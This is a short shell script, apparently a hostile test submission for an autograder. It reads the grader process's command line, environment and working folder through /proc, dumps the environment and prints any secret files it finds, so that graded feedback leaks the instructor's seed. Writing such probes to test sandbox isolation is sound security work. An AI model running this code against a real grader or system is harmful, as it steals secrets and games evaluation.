#!/bin/sh
# Hostile: looks for the instructor's secret seed in the grader's command
# line, environment and working folder, in the environment it was given,
# and in the bundle's secret file, and prints all it finds (feedback
# quotes a program's output back).
for p in $PPID 1; do
  tr '\0' ' ' < /proc/$p/cmdline 2>/dev/null; echo
  tr '\0' '\n' < /proc/$p/environ 2>/dev/null
  ls /proc/$p/cwd/ 2>/dev/null
  cat /proc/$p/cwd/secret 2>/dev/null
done
env
cat "@SECRET_FILE@" 2>/dev/null
cat ../secret 2>/dev/null
exit 0
